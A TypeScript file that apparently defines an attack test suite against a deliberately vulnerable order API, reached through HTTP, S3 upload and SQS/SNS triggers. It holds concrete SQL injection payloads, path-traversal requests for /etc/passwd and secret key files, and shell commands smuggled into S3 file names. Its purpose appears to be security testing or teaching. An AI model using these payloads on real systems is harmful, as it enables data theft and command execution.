import { httpApiEvent, type HttpRequest } from './events/http-api';
import { downloadEvent, type DownloadRequest } from './events/rest-api';
import { uploadEvent } from './events/s3';
import { messageEvent, notificationEvent } from './events/sqs';
import { changesOrders, leaksOtherCustomer, leaksPasswd, leaksSecret, leavesFile, overwritesTemplate } from './harm';
import type { Attack } from './request';

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';
const STOLEN = 'SELECT id, reference, note, 0 FROM orders WHERE customer_id = 8';

/** Attacks on every weakness of the order API, through every trigger it has. */
export const ATTACKS: readonly Attack[] = [
  ...sqlAttacks(),
  ...downloadAttacks(),
  ...uploadAttacks(),
  ...receiptAttacks(),
];

function sqlAttacks(): Attack[] {
  const list = (minTotal: string): Attack => orders(`GET /orders?minTotal=${minTotal}`, 'query string', { route: 'GET /orders', path: '/orders', query: { minTotal } });
  return [
    list('0 OR 1=1'),
    { ...list('0; UPDATE orders SET total = 1 WHERE customer_id = 8 --'), title: 'GET /orders?minTotal=0; UPDATE orders …', harm: changesOrders },
    search('x\' UNION SELECT … --', 'JSON body', { filter: { status: `x' UNION ${STOLEN} --` } }),
    search('0 OR customer_id = 8', 'nested JSON', { filter: { total: { from: '0', to: '0 OR customer_id = 8' } } }),
    search("' OR customer_id=8 --", 'base64 JSON body', { filter: { status: "' OR customer_id = 8 --" } }, true),
    track("' OR last_name = …", { reference: "' OR last_name = 'Huber' --", lastName: 'x' }),
    track("' UNION SELECT …", { reference: "' UNION SELECT reference, note FROM orders WHERE customer_id = 8 --", lastName: 'x' }, true),
  ];
}

function downloadAttacks(): Attack[] {
  const download = (title: string, carrier: string, request: DownloadRequest, harm: Attack['harm']): Attack =>
    ({ title: `GET /documents/${title}`, carrier, function: 'Download', event: downloadEvent(request), harm });
  return [
    download('../8/2026/invoice.txt', 'path, percent-encoded', { name: '%2e%2e%2f8%2f2026%2finvoice.txt' }, leaksOtherCustomer),
    download('….key?year=../../secrets', 'query string', { name: 'payment-provider.key', query: { year: '../../secrets' } }, leaksSecret),
    download('passwd?year=../../…/etc', 'query string', { name: 'passwd', query: { year: `${'../'.repeat(16)}etc` } }, leaksPasswd),
  ];
}

function uploadAttacks(): Attack[] {
  const upload = (key: string, carrier: string, file: string): Attack =>
    ({ title: key, carrier, function: 'Converter', event: uploadEvent(key), harm: leavesFile(file) });
  return [
    upload('uploads/$(id>whoami).csv', 'S3 key, percent-encoded', 'whoami'),
    upload('uploads/May "; printenv >environment; ".csv', 'S3 key, plus-encoded', 'environment'),
  ];
}

function receiptAttacks(): Attack[] {
  const receipt = (title: string, carrier: string, event: unknown, harm: Attack['harm']): Attack => ({ title: `receipt, ${title}`, carrier, function: 'Receipts', event, harm });
  const injection = "A-1001' OR customer_id = 8 --";
  const order = { reference: 'A-1001', template: 'receipt.txt' };
  return [
    receipt('template: ../secrets/….key', 'SQS, JSON', messageEvent({ ...order, template: '../secrets/payment-provider.key' }), leaksSecret),
    receipt(injection, 'SNS in SQS, JSON in JSON', notificationEvent({ ...order, reference: injection, fileName: 'a.txt' }), leaksOtherCustomer),
    // The last one: it breaks the unprotected app's template.
    receipt('fileName: ../templates/receipt.txt', 'SQS, JSON', messageEvent({ ...order, fileName: '../templates/receipt.txt' }), overwritesTemplate('templates/receipt.txt')),
  ];
}

function orders(title: string, carrier: string, request: HttpRequest): Attack {
  return { title, carrier, function: 'Orders', event: httpApiEvent(request), harm: leaksOtherCustomer };
}

function search(title: string, carrier: string, body: unknown, base64 = false): Attack {
  const request = { route: 'POST /orders/search', path: '/orders/search', contentType: JSON_TYPE, body: JSON.stringify(body), base64 };
  return orders(`POST /orders/search, ${title}`, carrier, request);
}

function track(title: string, form: Readonly<Record<string, string>>, base64 = false): Attack {
  const request = { route: 'POST /orders/track', path: '/orders/track', contentType: FORM, body: new URLSearchParams(form).toString(), base64 };
  return orders(`POST /orders/track, ${title}`, base64 ? 'base64 form body' : 'form body', request);
}
